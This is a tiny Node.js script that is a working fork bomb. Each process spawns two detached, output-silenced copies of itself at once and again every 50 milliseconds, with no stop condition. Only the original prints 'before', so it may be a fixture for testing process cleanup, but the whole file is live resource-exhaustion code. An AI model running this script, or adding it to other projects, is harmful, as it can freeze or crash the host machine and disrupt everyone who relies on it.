// Each copy starts two more, detached from it.
const { spawn } = require('node:child_process')
if (process.argv[2] === undefined) require('node:fs').writeSync(1, 'before\n')
function more () {
  for (let i = 0; i < 2; i++) spawn(process.execPath, [__filename, 'copy'], { detached: true, stdio: 'ignore' }).on('error', () => {}).unref()
}
more()
setInterval(more, 50)
